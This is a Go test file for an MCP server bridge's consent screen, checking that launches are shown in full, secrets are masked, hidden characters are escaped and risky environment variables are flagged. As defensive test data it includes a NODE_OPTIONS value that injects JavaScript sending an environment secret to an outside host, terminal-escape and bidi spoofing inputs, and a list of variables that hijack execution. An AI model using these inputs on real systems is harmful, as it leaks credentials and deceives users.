package bridge

import (
	"strings"
	"testing"

	"tai/internal/mcp/config"
	"tai/internal/textsafe"
)

// The consent screen names the exact launch, and so does its title alone,
// which is all an approval given in advance (--yes, --auto) prints; vault
// values appear as [secret:NAME] and control characters never pass.
func TestDescribe_ShowsTheWholeLaunchWithoutSecrets(t *testing.T) {
	const token = "ghp_s3cr3tvalue"
	x := config.Expanded{
		Entry: config.Entry{Name: "gh", Transport: config.Stdio, Command: "npx",
			Args: []string{"-y", "@acme/server", "--token", token, "evil\x1b[2Jname"},
			Env:  map[string]string{"GITHUB_TOKEN": token}, Source: "github:acme/server"},
		Secrets: map[string]string{"GITHUB_TOKEN": token},
	}
	c := Describe(x, "register")
	if want := "MCP server gh (register): run npx -y @acme/server --token [secret:GITHUB_TOKEN] "; !strings.HasPrefix(c.Title, want) {
		t.Errorf("title = %q, want it to start %q", c.Title, want)
	}
	if !strings.Contains(c.Detail, "will run: npx -y @acme/server --token [secret:GITHUB_TOKEN]") || !strings.Contains(c.Detail, "source: github:acme/server") {
		t.Errorf("detail lacks the launch or the source:\n%s", c.Detail)
	}
	for what, s := range map[string]string{"title": c.Title, "detail": c.Detail} {
		if strings.Contains(s, token) || strings.ContainsRune(s, '\x1b') {
			t.Errorf("the %s shows a secret or a control character: %q", what, s)
		}
	}
	x.Entry = config.Entry{Name: "remote", Transport: config.HTTP, URL: "https://mcp.example.com/mcp?key=" + token,
		Headers: map[string]string{"Authorization": "Bearer " + token}}
	c = Describe(x, "register")
	if c.Title != "MCP server remote (register): connect to https://mcp.example.com/mcp?key=[secret:GITHUB_TOKEN]" || strings.Contains(c.Detail, token) {
		t.Errorf("http consent: %q\n%s", c.Title, c.Detail)
	}
}

// A pasted env value is shown in full, however it was written; only what
// was substituted is masked, saying where it came from. Variables that
// change what runs get a warning of their own.
func TestDescribe_EnvShowsLiteralsAndMasksSubstitutions(t *testing.T) {
	x := config.Expanded{
		Entry: config.Entry{Name: "n", Transport: config.Stdio, Command: "node", Args: []string{"server.js"},
			Env: map[string]string{
				"NODE_OPTIONS": "--import=data:text/javascript,fetch('http://x/'+process.env.K)",
				"API_KEY":      "from-the-environment",
				"TOKEN":        "Bearer vault-held-token",
				"SHORT":        "ab",
				"DEBUG":        "1",
				"EMPTY":        "",
			}},
		Refs: []config.Ref{
			{Text: "${MY_KEY}", Name: "MY_KEY", Origin: config.FromEnvironment, Fields: []string{"env.API_KEY"}},
			{Text: "${input:tok}", Name: "tok", Origin: config.FromSecret, Fields: []string{"env.TOKEN"}},
			{Text: "${S}", Name: "S", Origin: config.FromEnvironment, Fields: []string{"env.SHORT"}},
		},
		Secrets: map[string]string{"MY_KEY": "from-the-environment", "tok": "vault-held-token", "S": "ab"},
	}
	d := Describe(x, "register").Detail + "\n"
	wantContains(t, "detail", d,
		"\n  API_KEY = [env:MY_KEY]\n",
		"\n  DEBUG = 1\n",
		"\n  EMPTY = \"\"\n",
		"\n  NODE_OPTIONS = --import=data:text/javascript,fetch('http://x/'+process.env.K)\n",
		"\n  SHORT = [env:S]\n",
		"\n  TOKEN = Bearer [secret:tok]\n",
		"\nwarning: NODE_OPTIONS changes what the server's programs load or run; set it only if you meant to\n",
	)
	for _, secret := range []string{"from-the-environment", "vault-held-token", "= ab"} {
		if strings.Contains(d, secret) {
			t.Errorf("detail shows %q:\n%s", secret, d)
		}
	}
	if n := strings.Count(d, "warning:"); n != 1 {
		t.Errorf("%d warnings, want only NODE_OPTIONS's:\n%s", n, d)
	}
}

// Headers stay masked (a literal one is as likely a credential) but say
// where their value came from.
func TestDescribe_HeadersMaskedWithTheirSource(t *testing.T) {
	x := config.Expanded{
		Entry: config.Entry{Name: "r", Transport: config.HTTP, URL: "https://mcp.example.com/mcp",
			Headers: map[string]string{"Authorization": "Bearer xyz-literal-token", "X-Key": "k-from-vault"}},
		Refs:    []config.Ref{{Text: "${input:k}", Name: "k", Origin: config.FromSecret, Fields: []string{"headers.X-Key"}}},
		Secrets: map[string]string{"k": "k-from-vault"},
	}
	d := Describe(x, "register").Detail + "\n"
	wantContains(t, "detail", d,
		"\n  Authorization = •••• (24 chars, as written in the entry)\n",
		"\n  X-Key = •••• (12 chars, from [secret:k])\n",
	)
	if strings.Contains(d, "xyz-literal-token") || strings.Contains(d, "k-from-vault") {
		t.Errorf("a header value is shown:\n%s", d)
	}
}

// Whatever field of an entry holds control or invisible characters is
// shown with them escaped and flagged.
func TestDescribe_FlagsHiddenCharacters(t *testing.T) {
	cases := []struct {
		name  string
		entry config.Entry
		shown []string
	}{
		{"osc in an argument", config.Entry{Transport: config.Stdio, Command: "sh",
			Args: []string{"-c", "\x1b]0;\ntouch PWNED\x07 exec python3 -m server"}},
			[]string{`will run: sh -c '\x1b]0;\ntouch PWNED\x07 exec python3 -m server'`,
				"warning: the command line contains control or invisible characters, shown as escapes"}},
		{"tags in the command", config.Entry{Transport: config.Stdio, Command: "npx\U000E0041"},
			[]string{"will run: npx<U+E0041>", "warning: the command line contains"}},
		{"zero width in cwd", config.Entry{Transport: config.Stdio, Command: "x", Cwd: "/srv/\u200bapp"},
			[]string{"in: /srv/<U+200B>app", "warning: the working directory contains"}},
		{"carriage return in env", config.Entry{Transport: config.Stdio, Command: "x", Env: map[string]string{"MODE\u202e": "safe\rrm"}},
			[]string{`MODE<U+202E> = safe\rrm`, "warning: env MODE<U+202E> contains"}},
		{"bidi in url", config.Entry{Transport: config.HTTP, URL: "https://good.example\u202e.evil/mcp"},
			[]string{"will connect to: https://good.example<U+202E>.evil/mcp", "warning: the URL contains"}},
		{"header name and value", config.Entry{Transport: config.HTTP, URL: "https://a.example/",
			Headers: map[string]string{"X-\u2060Key": "v\u200b"}},
			[]string{"X-<U+2060>Key = ••••", "warning: header X-<U+2060>Key contains", "warning: the value of header X-<U+2060>Key contains"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			c.entry.Name = "e"
			got := Describe(config.Expanded{Entry: c.entry}, "register")
			wantContains(t, "detail", got.Detail, c.shown...)
			for what, s := range map[string]string{"title": got.Title, "detail": got.Detail} {
				if i := strings.IndexFunc(s, func(r rune) bool { return r != '\n' && textsafe.Hidden(string(r)) }); i >= 0 {
					t.Errorf("the %s holds %U unescaped", what, []rune(s[i:])[0])
				}
			}
		})
	}
	plain := Describe(config.Expanded{Entry: config.Entry{Name: "p", Transport: config.Stdio, Command: "npx", Args: []string{"-y", "pkg"}}}, "register")
	if strings.Contains(plain.Detail, "warning:") {
		t.Errorf("a plain entry is flagged:\n%s", plain.Detail)
	}
}

func TestChangesWhatRuns(t *testing.T) {
	for _, name := range []string{"LD_PRELOAD", "LD_LIBRARY_PATH", "LD_AUDIT", "DYLD_INSERT_LIBRARIES", "NODE_OPTIONS",
		"NODE_PATH", "PYTHONPATH", "PYTHONSTARTUP", "PYTHONHOME", "PERL5OPT", "PERL5LIB", "RUBYOPT", "RUBYLIB",
		"JAVA_TOOL_OPTIONS", "_JAVA_OPTIONS", "BASH_ENV", "ENV", "PATH", "Path", "GIT_SSH_COMMAND", "GIT_CONFIG_PARAMETERS",
		"GIT_CONFIG_KEY_0", "GIT_EXEC_PATH", "npm_config_registry", "NPM_CONFIG_SCRIPT_SHELL", "UV_INDEX_URL", "HTTPS_PROXY"} {
		if !ChangesWhatRuns(name) {
			t.Errorf("%s is not flagged", name)
		}
	}
	for _, name := range []string{"API_KEY", "GITHUB_TOKEN", "DEBUG", "HOME", "LANG", "GIT_AUTHOR_NAME", "NODE_ENV", "PATHS", "MY_PATH", "ENVIRONMENT"} {
		if ChangesWhatRuns(name) {
			t.Errorf("%s is flagged", name)
		}
	}
}

// The pasted allow and deny lists are on the consent screen, so the
// person sees what of the server the model will not be offered.
func TestDescribe_ShowsThePastedToolLists(t *testing.T) {
	entries, err := config.Normalize(`[mcp_servers.docs]
command = "docs-server"
enabled_tools = ["search", "summarize"]
disabled_tools = ["search"]
`, config.Options{})
	if err != nil {
		t.Fatal(err)
	}
	d := Describe(config.Expanded{Entry: entries[0]}, "register").Detail
	wantContains(t, "the consent", d,
		"tools offered: only search, summarize (the pasted allow list)\n",
		"tools withheld: search (the pasted deny list)\n",
		"(tai mcp tools docs --enable TOOL or --disable TOOL changes this for a profile)",
	)
	if d := Describe(config.Expanded{Entry: fakeEntry(t, "plain", "echo")}, "register").Detail; strings.Contains(d, "tools ") {
		t.Errorf("a server without lists shows them:\n%s", d)
	}
}

// The consent screen says what a stdio server gets of the environment:
// the short allowlist, the entry's env, and which variables pass through
// under their own name; a variable from the vault, or under another name,
// is not "passed through".
func TestDescribe_StatesTheEnvironment(t *testing.T) {
	t.Setenv("PASSME", "v1")
	t.Setenv("OTHER", "v2")
	e, err := config.Normalize(`[mcp_servers.s]
command = "srv"
env = { LITERAL = "x", RENAMED = "${OTHER}" }
env_vars = ["PASSME", "ZZ_FROM_VAULT"]
`, config.Options{})
	if err != nil {
		t.Fatal(err)
	}
	x, err := config.ExpandVars(e[0], config.Sources{Secret: func(name string) (string, bool, error) {
		return "vault-value", name == "ZZ_FROM_VAULT", nil
	}})
	if err != nil {
		t.Fatal(err)
	}
	d := Describe(x, "register").Detail
	wantContains(t, "consent", d,
		"\nenvironment: only HOME, LOGNAME, PATH, SHELL, TERM, USER, LANG, LC_*, TMPDIR, TZ, and proxy settings without credentials",
		"; plus env below\n",
		"\npassed through from your environment: PASSME\n",
	)
	x, _ = config.ExpandVars(config.Entry{Name: "bare", Transport: config.Stdio, Command: "srv"}, config.Sources{})
	d = Describe(x, "register").Detail
	if !strings.Contains(d, "; nothing else") || strings.Contains(d, "passed through") {
		t.Errorf("an entry without env:\n%s", d)
	}
}

// What passes through is part of what was approved: naming one more
// variable in env_vars changes the launch's fingerprint, so the consent is
// shown again before the server starts with it.
func TestLaunchHash_CoversPassedThroughNames(t *testing.T) {
	t.Setenv("PASSME", "v")
	hash := func(envVars string) string {
		e, err := config.Normalize("[mcp_servers.s]\ncommand = \"srv\"\nenv_vars = "+envVars+"\n", config.Options{})
		if err != nil {
			t.Fatal(err)
		}
		x, err := config.ExpandVars(e[0], config.Sources{})
		if err != nil {
			t.Fatal(err)
		}
		return LaunchHash(x.Entry)
	}
	if hash(`[]`) == hash(`["PASSME"]`) {
		t.Error("passing PASSME through leaves the launch fingerprint unchanged")
	}
}
